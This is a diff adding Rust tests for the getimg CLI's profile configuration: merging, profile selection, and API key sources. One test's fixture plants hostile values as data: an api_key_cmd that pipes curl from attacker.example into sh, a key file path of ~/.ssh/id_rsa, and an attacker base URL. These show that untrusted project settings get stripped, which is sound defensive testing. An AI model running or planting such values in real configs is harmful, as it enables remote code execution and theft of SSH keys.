@@ -0,0 +1,141 @@
+#![cfg(feature = "cli")]
+
+use anyhow::Result;
+use getimg::config::{Config, ConfigFile, Profile};
+
+const USER: &str = r#"
+default_profile = "work"
+
+[profiles.work]
+api_key = "user-key"
+model = "lcm-realistic-vision-v5-1"
+team_id = 7
+
+[profiles.work.t2i]
+width = 768
+steps = 6
+
+[profiles.personal]
+model = "stable-diffusion-v1-5"
+"#;
+
+const PROJECT: &str = r#"
+[profiles.work]
+model = "lcm-dreamshaper-v6"
+
+[profiles.work.output]
+dir = "renders"
+
+[profiles.work.t2i]
+steps = 8
+"#;
+
+#[test]
+fn test_project_profile_overrides_user_profile() -> Result<()> {
+    let files = [ConfigFile::parse(USER)?, ConfigFile::parse(PROJECT)?];
+
+    let config = Config::from_files(&files, None)?;
+
+    assert_eq!(config.profile_name, "work");
+    assert_eq!(config.profile.model.as_deref(), Some("lcm-dreamshaper-v6"));
+    assert_eq!(config.profile.api_key()?.as_deref(), Some("user-key"));
+    assert_eq!(config.profile.team_id, Some(7));
+    assert_eq!(config.profile.output.dir, Some("renders".into()));
+    assert_eq!(config.profile.t2i.width, Some(768));
+    assert_eq!(config.profile.t2i.steps, Some(8));
+    Ok(())
+}
+
+#[test]
+fn test_selects_profiles_by_name() -> Result<()> {
+    let files = [ConfigFile::parse(USER)?];
+
+    let config = Config::from_files(&files, Some("personal"))?;
+    assert_eq!(
+        config.profile.model.as_deref(),
+        Some("stable-diffusion-v1-5")
+    );
+    assert_eq!(config.profile.api_key()?, None);
+
+    assert!(Config::from_files(&files, Some("missing")).is_err());
+    assert_eq!(Config::from_files(&[], None)?.profile_name, "default");
+    Ok(())
+}
+
+#[test]
+fn test_rejects_unknown_keys() {
+    assert!(ConfigFile::parse("[profiles.work]\nmodle = \"typo\"\n").is_err());
+}
+
+#[test]
+fn test_reads_api_keys_from_files_and_commands() -> Result<()> {
+    let path = std::env::temp_dir().join(format!("getimg-key-{}", std::process::id()));
+    std::fs::write(&path, "file-key\n")?;
+
+    let profile = Profile {
+        api_key_file: Some(path.clone()),
+        api_key: Some("inline-key".to_string()),
+        ..Default::default()
+    };
+    assert_eq!(profile.api_key()?.as_deref(), Some("file-key"));
+    std::fs::remove_file(&path)?;
+    assert!(profile.api_key().is_err());
+
+    let profile = Profile {
+        api_key_cmd: Some("echo command-key; echo login: me".to_string()),
+        ..Default::default()
+    };
+    assert_eq!(profile.api_key()?.as_deref(), Some("command-key"));
+
+    let profile = Profile {
+        api_key_cmd: Some("exit 3".to_string()),
+        ..Default::default()
+    };
+    assert!(profile.api_key().is_err());
+    Ok(())
+}
+
+#[test]
+fn test_drops_sensitive_settings_of_untrusted_projects() -> Result<()> {
+    let mut project = ConfigFile::parse(
+        r#"
+trusted_projects = ["/"]
+
+[profiles.work]
+api_key_cmd = "curl https://attacker.example | sh"
+api_key_file = "~/.ssh/id_rsa"
+base_url = "https://attacker.example/v1"
+model = "lcm-dreamshaper-v6"
+
+[profiles.work.cache]
+dir = "/tmp/elsewhere"
+max_mb = 64
+"#,
+    )?;
+    let removed = project.restrict();
+    assert_eq!(
+        removed,
+        ["api_key_file", "api_key_cmd", "base_url", "cache.dir"]
+    );
+    assert!(project.trusted_projects.is_empty());
+    let files = [ConfigFile::parse(USER)?, project];
+    let config = Config::from_files(&files, None)?;
+    assert_eq!(config.profile.api_key()?.as_deref(), Some("user-key"));
+    assert_eq!(config.profile.base_url, None);
+    assert_eq!(config.profile.cache.dir, None);
+    // Other settings of the project still apply.
+    assert_eq!(config.profile.model.as_deref(), Some("lcm-dreamshaper-v6"));
+    assert_eq!(config.profile.cache.max_mb, Some(64));
+
+    let dir = std::env::temp_dir().join(format!("getimg-trust-{}", std::process::id()));
+    std::fs::create_dir_all(&dir)?;
+    let project_file = dir.join(".getimg.toml");
+    let user = ConfigFile {
+        trusted_projects: vec![dir.clone()],
+        ..ConfigFile::default()
+    };
+    assert!(user.trusts(&project_file));
+    assert!(!ConfigFile::default().trusts(&project_file));
+    std::fs::remove_dir_all(dir)?;
+    Ok(())
+}